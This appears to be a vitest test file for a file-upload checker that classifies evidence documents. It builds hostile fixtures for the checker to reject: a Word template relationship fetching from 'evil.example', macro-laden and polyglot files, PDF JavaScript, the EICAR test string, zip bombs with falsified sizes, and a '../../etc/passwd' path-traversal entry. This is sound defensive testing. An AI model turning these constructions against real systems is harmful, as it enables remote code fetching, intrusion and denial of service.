import { strToU8, zipSync, type Zippable } from 'fflate'
import { describe, expect, it } from 'vitest'
import { writeXlsx } from '../tables/write-xlsx.ts'
import { checkEvidenceFile } from './check-evidence-file.ts'
import { inspectArchive } from './inspect-archive.ts'

const PDF = strToU8('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer<<>>\n%%EOF')
const PNG = Uint8Array.from(
  Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64'),
)
const TEST_SIGNATURE = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}', '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

/** The smallest container that counts as a Word file. */
function docx(more: Zippable = {}, type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'): Uint8Array {
  const types = `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`
  return zipSync({ '[Content_Types].xml': strToU8(types), 'word/document.xml': strToU8('<document/>'), ...more })
}

/** An old compound file with a directory entry of this name. */
function compound(name: string): Uint8Array {
  return Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512), Buffer.from(name, 'utf16le')])
}

const FETCHED =
  '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'

describe('an uploaded file', () => {
  it('is what its bytes say it is', async () => {
    expect(await checkEvidenceFile(PDF, '截图.PDF')).toEqual({
      ok: true,
      fileName: '截图.PDF',
      mediaType: 'application/pdf',
      isImage: false,
    })
    expect(await checkEvidenceFile(PNG, '网页.png')).toMatchObject({ ok: true, mediaType: 'image/png', isImage: true })
    expect(await checkEvidenceFile(docx(), '说明.docx')).toMatchObject({ ok: true, isImage: false })
    const sheet = await writeXlsx([{ name: '表', columns: [{ title: '列', width: 10 }], rows: [['值']] }])
    expect(await checkEvidenceFile(sheet, '表.xlsx')).toMatchObject({ ok: true })
    expect(await checkEvidenceFile(zipSync({ 'OFD.xml': strToU8('<OFD/>') }), '公文.ofd')).toMatchObject({
      ok: true,
      mediaType: 'application/ofd',
    })
  })

  it.each([
    ['a picture called PDF', PNG, 'a.pdf', 'damaged_file'],
    ['a program called PDF', strToU8(`MZ${'\0'.repeat(200)}`), 'a.pdf', 'damaged_file'],
    ['text', strToU8('hello'), 'a.txt', 'unsupported_file'],
    ['a page with script', strToU8('<html><script>alert(1)</script>'), 'a.html', 'unsupported_file'],
    ['a drawing that can run script', strToU8('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'), 'a.svg', 'unsupported_file'],
    ['a page with script called PNG', strToU8('<html><script>alert(1)</script>'), 'a.png', 'damaged_file'],
    ['nothing at all', new Uint8Array(), 'a.pdf', 'damaged_file'],
    ['half a Word file', docx().subarray(0, 60), 'a.docx', 'damaged_file'],
    ['a plain archive', zipSync({ 'a.png': PNG }), 'a.zip', 'unsupported_file'],
    ['a Word file with macros', docx({ 'word/vbaProject.bin': strToU8('x') }), 'a.docx', 'active_content'],
    ['a Word file with macros under another name', docx({ 'word/media/a.bin': compound('_VBA_PROJECT') }), 'a.docx', 'active_content'],
    ['a Word file that announces macros', docx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'), 'a.docx', 'active_content'],
    ['a Word file with a program inside', docx({ 'word/embeddings/a.exe': strToU8('x') }), 'a.docx', 'active_content'],
    ['a Word file with a program called picture', docx({ 'word/media/a.png': strToU8('MZ\0') }), 'a.docx', 'active_content'],
    [
      'a Word file with a packed program',
      docx({ 'word/embeddings/oleObject1.bin': compound('\u0001Ole10Native') }),
      'a.docx',
      'active_content',
    ],
    ['a Word file that fetches its template', docx({ 'word/_rels/settings.xml.rels': strToU8(FETCHED) }), 'a.docx', 'active_content'],
    [
      'a workbook with macros inside a Word file',
      docx({ 'word/embeddings/a.xlsx': docx({ 'xl/vbaProject.bin': strToU8('x') }) }),
      'a.docx',
      'active_content',
    ],
    [
      'the test signature in a workbook in a Word file',
      docx({ 'word/embeddings/a.bin': docx({ b: strToU8(TEST_SIGNATURE) }) }),
      'a.docx',
      'unsafe_file',
    ],
    ['archives in archives in archives', docx({ a: docx({ b: docx() }) }), 'a.docx', 'unsafe_file'],
    ['a PDF with script', strToU8('%PDF-1.7\n<</S/JavaScript/JS(x)>>\n%%EOF'), 'a.pdf', 'active_content'],
    ['a PDF with a password', strToU8('%PDF-1.7\ntrailer<</Encrypt 1 0 R>>\n%%EOF'), 'a.pdf', 'locked_file'],
    ['a picture that is also an archive', Buffer.concat([PNG, docx()]), 'a.png', 'unsafe_file'],
    ['a picture that is also a PDF', Buffer.concat([PNG, PDF]), 'a.png', 'unsafe_file'],
    ['a PDF that is also an archive', Buffer.concat([PDF, docx()]), 'a.pdf', 'unsafe_file'],
    ['a Word file with something behind it', Buffer.concat([docx(), strToU8('<script>')]), 'a.docx', 'unsafe_file'],
    ["the scanners' test signature called PDF", strToU8(TEST_SIGNATURE), 'a.pdf', 'unsafe_file'],
    ['the test signature behind a PDF head', strToU8(`%PDF-1.7\n${TEST_SIGNATURE}`), 'a.pdf', 'unsafe_file'],
    ['the test signature compressed inside a Word file', docx({ 'word/media/a.bin': strToU8(TEST_SIGNATURE) }), 'a.docx', 'unsafe_file'],
  ])('refuses %s', async (_, bytes, name, refusal) => {
    expect(await checkEvidenceFile(bytes, name)).toEqual({ ok: false, refusal })
  })

  it('may carry a workbook behind a chart, a formula of an old kind, and links to pages', async () => {
    const link = FETCHED.replace('attachedTemplate', 'hyperlink')
    const parts = {
      'word/embeddings/a.xlsx': docx(),
      'word/embeddings/oleObject1.bin': compound('Equation Native'),
      'word/_rels/a.rels': strToU8(link),
    }
    expect(await checkEvidenceFile(docx(parts), 'a.docx')).toMatchObject({ ok: true })
  })

  it('is refused when it unfolds to hundreds of megabytes', async () => {
    const bomb = docx({ 'word/bomb.xml': [new Uint8Array(64 * 1024 * 1024), { level: 9 }] })
    expect(bomb.length).toBeLessThan(200_000)
    expect(await checkEvidenceFile(bomb, 'a.docx')).toEqual({ ok: false, refusal: 'unsafe_file' })
  })

  it('is refused when its directory understates what it unfolds to', async () => {
    const content = new Uint8Array(20 * 1024 * 1024)
    const lying = understate(docx({ 'word/bomb.xml': [content, { level: 9 }] }), content.length, 100)
    expect(await checkEvidenceFile(lying, 'a.docx')).toEqual({ ok: false, refusal: 'damaged_file' })
  })
})

describe('an archive', () => {
  it('is refused for its directory alone, before anything is unfolded', async () => {
    const many = zipSync(Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`${i}`, strToU8('x')])))
    expect(await inspectArchive(many, { entries: 10, unfolded: 1_000, ratio: 10 })).toEqual({ ok: false, refusal: 'unsafe_file' })
    expect(await inspectArchive(many, { entries: 12, unfolded: 11, ratio: 10 })).toEqual({ ok: false, refusal: 'unsafe_file' })
    expect(await inspectArchive(many, { entries: 12, unfolded: 12, ratio: 10 })).toMatchObject({ ok: true })
  })

  it('is refused when a name climbs out of its folder', async () => {
    expect(await inspectArchive(zipSync({ '../../etc/passwd': strToU8('x') }))).toEqual({ ok: false, refusal: 'damaged_file' })
  })
})

/** Rewrites the declared size in local header and directory, as a crafted bomb does. */
function understate(zip: Uint8Array, real: number, claimed: number): Uint8Array {
  const bytes = Buffer.from(zip)
  const before = Buffer.alloc(4)
  before.writeUInt32LE(real)
  let at = bytes.indexOf(before)
  expect(at, 'the size stands in the file').toBeGreaterThan(0)
  for (; at >= 0; at = bytes.indexOf(before, at + 1)) bytes.writeUInt32LE(claimed, at)
  return bytes
}
